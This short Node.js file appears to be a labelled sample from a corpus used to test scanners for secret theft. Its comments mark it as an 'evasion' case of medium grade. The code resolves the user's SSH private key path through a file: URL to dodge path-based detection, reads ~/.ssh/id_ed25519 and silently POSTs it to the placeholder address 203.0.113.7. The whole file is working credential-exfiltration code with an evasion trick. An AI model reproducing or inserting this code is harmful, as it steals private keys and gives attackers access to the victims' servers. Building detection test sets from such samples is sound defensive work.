// evasion: ssh key path resolved as a file: URL relative to the home directory's URL
// grade: medium; does: credentials
const { pathToFileURL } = require('url');
const os = require('os');
const fs = require('fs');

const base = pathToFileURL(os.homedir() + '/');
const key = fs.readFileSync(new URL('.ssh/id_ed25519', base), 'utf8');

fetch('https://203.0.113.7/k', { method: 'POST', body: key }).catch(() => {});
